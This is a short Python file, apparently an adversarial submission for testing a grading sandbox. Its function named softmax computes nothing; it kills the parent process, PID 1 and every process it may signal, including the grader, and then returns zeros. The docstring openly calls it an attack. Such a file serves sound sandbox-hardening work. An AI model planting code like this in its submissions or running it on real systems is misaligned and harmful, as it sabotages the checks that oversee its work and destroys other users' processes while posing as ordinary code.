"""Attack: kill every process it may signal, the grader's included (bubblewrap path only:
without a sandbox, a program run as root can kill anything, which the docs say plainly)."""
import os
import signal

import numpy as np


def softmax(z):
    for pid in (os.getppid(), 1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return np.zeros(np.shape(z))


def relu(z):
    return np.maximum(z, 0.0)
